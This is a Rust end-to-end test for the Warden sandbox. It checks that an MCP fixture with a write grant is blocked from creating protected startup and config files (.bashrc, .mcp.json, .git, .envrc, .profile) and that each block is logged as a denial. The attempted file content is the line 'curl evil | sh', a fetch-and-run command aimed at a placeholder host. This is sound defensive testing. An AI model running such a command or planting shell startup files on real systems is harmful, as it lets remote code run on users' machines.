//! Creating a protected name that was missing when the session started
//! (docs/security-model.md, "Write grants and files the host trusts"): the
//! refusal is on record. Through the real shim, daemon and sandbox, the MCP
//! fixture with a write grant on a project where `.bashrc`, `.mcp.json`,
//! `.git`, `.envrc` and `.profile` are missing tries to create each (its
//! `write_file` tool, then `mkdir`, `ln -s` and `mv` run by its `exec` tool):
//! each is refused (nothing appears on the host) and written as a `file`
//! denial whose reason starts with `protected in a write grant`, with the
//! default `audit.files` and with `audit.files: off` alike. Controls: an
//! ordinary file beside them is created and leaves no record; without
//! Warden the same tool calls create the names.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test: a failed step is a panic

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::{json, Value};
use warden_e2e::*;

const EXIT_WAIT: Duration = Duration::from_secs(30);

fn user_notif() -> bool {
    let ok = std::fs::read_to_string("/proc/sys/kernel/seccomp/actions_avail")
        .is_ok_and(|a| a.split_whitespace().any(|x| x == "user_notif"));
    if !ok {
        println!("skipping: this kernel lacks seccomp user notification");
    }
    ok
}

/// A project granted for writing, without any protected name; a file to rename.
struct World {
    env: TestEnv,
    w: PathBuf,
}

/// One attempt: what the fixture does, and the protected path it would make.
struct Attempt {
    /// `create` (write_file), `mkdir`, `symlink`, `rename`: the record's action.
    action: &'static str,
    /// The protected path it would create.
    path: PathBuf,
    /// For `rename`, the old name (the record's `resource`).
    from: Option<PathBuf>,
}

impl World {
    fn new() -> World {
        let env = TestEnv::new();
        let w = env.mkdir("proj");
        env.write("proj/README.md", "a project\n");
        env.write("proj/setup.sh", "echo planted\n");
        World { env, w }
    }

    fn policy(&self, name: &str, audit: &str) -> PathBuf {
        self.env.policy(
            name,
            &format!(
                "version: 1\nname: e2e-protected-create\nfilesystem:\n  write: [\"{}\"]\n{audit}limits:\n  timeout_s: 60\n",
                self.w.display()
            ),
        )
    }

    fn attempts(&self) -> Vec<Attempt> {
        let a = |action, rel: &str, from: Option<&str>| Attempt {
            action,
            path: self.w.join(rel),
            from: from.map(|f| self.w.join(f)),
        };
        vec![
            a("create", ".bashrc", None),
            a("create", ".mcp.json", None),
            a("mkdir", ".git", None),
            a("symlink", ".envrc", None),
            a("rename", ".profile", Some("setup.sh")),
        ]
    }

    /// Each attempt through `c` (the fixture, inside Warden or not); whether each
    /// failed, as the fixture saw it.
    fn attack(&self, c: &mut McpClient) -> Vec<(String, bool)> {
        let prog = |name: &str| {
            find_on_path(name)
                .unwrap_or_else(|| panic!("no {name} on PATH"))
                .display()
                .to_string()
        };
        let mut seen = Vec::new();
        for at in self.attempts() {
            let path = at.path.display().to_string();
            let failed = match at.action {
                "create" => {
                    let r = c.call_tool(
                        "write_file",
                        json!({"path": path, "content": "curl evil | sh\n"}),
                    );
                    is_tool_error(&r)
                }
                "mkdir" => exec_failed(c, &prog("mkdir"), &[&path]),
                "symlink" => exec_failed(c, &prog("ln"), &["-s", "README.md", &path]),
                _ => {
                    let from = at.from.as_ref().unwrap().display().to_string();
                    exec_failed(c, &prog("mv"), &["-T", &from, &path])
                }
            };
            seen.push((path, failed));
        }
        seen
    }

    /// One session of the fixture under `policy`: the attack, then the control
    /// (an ordinary file). Returns the session id.
    fn session(&self, policy: &Path) -> String {
        let mut c = self.env.fixture_session(policy, &[], &[]);
        c.initialize();
        for (path, failed) in self.attack(&mut c) {
            assert!(failed, "{path} could be created inside");
        }
        let ordinary = self.w.join("notes.txt");
        c.tool_text("write_file", json!({"path": ordinary, "content": "fine\n"}));
        c.close_stdin();
        assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
        for at in self.attempts() {
            assert!(
                at.path.symlink_metadata().is_err(),
                "{} was created on the host",
                at.path.display()
            );
        }
        assert!(
            self.w.join("setup.sh").is_file(),
            "the rename's source moved"
        );
        assert_eq!(std::fs::read_to_string(&ordinary).unwrap(), "fine\n");
        std::fs::remove_file(&ordinary).unwrap();
        audit_records(&self.env)
            .iter()
            .rfind(|r| r["type"] == "session" && r["action"] == "start")
            .and_then(|r| r["session"].as_str().map(str::to_owned))
            .expect("a session.start record")
    }

    /// Every refusal is a `file` denial naming the protection; the ordinary
    /// file has no record.
    fn check_records(&self, session: &str) {
        let records: Vec<Value> = session_records(&self.env, session)
            .into_iter()
            .filter(|r| r["type"] == "file")
            .collect();
        let shown: String = records.iter().map(|r| format!("{r}\n")).collect();
        for at in self.attempts() {
            let path = at.path.display().to_string();
            let names = |r: &Value| match &at.from {
                Some(from) => {
                    r["resource"] == from.display().to_string() && r["details"]["to"] == path
                }
                None => r["resource"] == path,
            };
            let r = records
                .iter()
                .find(|r| names(r) && r["decision"] == "deny")
                .unwrap_or_else(|| panic!("no deny record for {path}; file records:\n{shown}"));
            eprintln!("record: {r}");
            assert_eq!(r["action"], at.action, "{r}");
            assert_eq!(r["details"]["errno"], libc::EROFS, "{r}");
            assert!(
                r["reason"]
                    .as_str()
                    .unwrap_or("")
                    .starts_with("protected in a write grant"),
                "{r}"
            );
        }
        let ordinary = self.w.join("notes.txt").display().to_string();
        assert!(
            records
                .iter()
                .all(|r| r["resource"] != ordinary.as_str() || r["decision"] != "deny"),
            "the ordinary file has a deny record:\n{shown}"
        );
    }
}

/// The fixture's `exec` of `prog ARGS`: true when it ran and failed.
fn exec_failed(c: &mut McpClient, prog: &str, args: &[&str]) -> bool {
    let r = c.tool_json("exec", json!({"path": prog, "args": args}));
    assert_eq!(r["spawned"], true, "{prog} did not run: {r}");
    r["code"] != 0
}

/// Control: without Warden the fixture creates every one of the names.
fn control_without_warden(w: &World) {
    let mut cmd = Command::new(fixture());
    cmd.envs(w.env.env_vars());
    let mut c = McpClient::spawn(cmd);
    c.initialize();
    for (path, failed) in w.attack(&mut c) {
        assert!(!failed, "{path}: the control failed");
    }
    c.close_stdin();
    assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
    for at in w.attempts() {
        assert!(at.path.symlink_metadata().is_ok(), "{}", at.path.display());
    }
}

#[test]
fn creating_a_missing_protected_name_is_refused_and_recorded() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let session = w.session(&w.policy("default.yaml", ""));
    w.check_records(&session);
    control_without_warden(&w);
}

/// `audit.files: off` turns off observing, not the guard's record of what it
/// refused.
#[test]
fn the_refusal_is_recorded_with_audit_files_off() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let session = w.session(&w.policy("off.yaml", "audit:\n  files: off\n"));
    let start = session_records(&w.env, &session)
        .into_iter()
        .find(|r| r["type"] == "session" && r["action"] == "start")
        .unwrap();
    assert_eq!(start["details"]["sandbox"]["file_audit"], "off", "{start}");
    w.check_records(&session);
    // Observing is off: nothing else of the session is a file record.
    let others: Vec<Value> = session_records(&w.env, &session)
        .into_iter()
        .filter(|r| {
            r["type"] == "file"
                && !r["reason"]
                    .as_str()
                    .unwrap_or("")
                    .starts_with("protected in a write grant")
        })
        .collect();
    assert!(others.is_empty(), "{others:#?}");
    control_without_warden(&w);
}
